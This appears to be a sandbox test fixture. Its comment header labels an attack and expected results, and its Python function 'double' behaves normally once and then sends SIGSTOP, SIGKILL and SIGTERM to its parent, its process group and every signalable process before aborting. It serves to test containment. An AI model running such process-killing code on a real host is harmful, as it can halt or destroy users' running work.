# class: 14
# attack: kills and stops its parent, its group and every process that it may signal
# want: V2
# outcome: nothing of the host can be signalled; its own death is kernel_died
# runner: sandbox
# expect: q1_hidden=kernel_died q2_hidden=not_reached q3_hidden=not_reached
# %% q1
import os, signal
calls = 0
def double(x):
    global calls
    calls += 1
    if calls < 2:
        return 2 * x
    for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM):
        for target in (os.getppid(), -1, 0):
            try:
                os.kill(target, number)
            except OSError:
                pass
        try:
            os.killpg(os.getpgrp(), number)
        except OSError:
            pass
    os.abort()
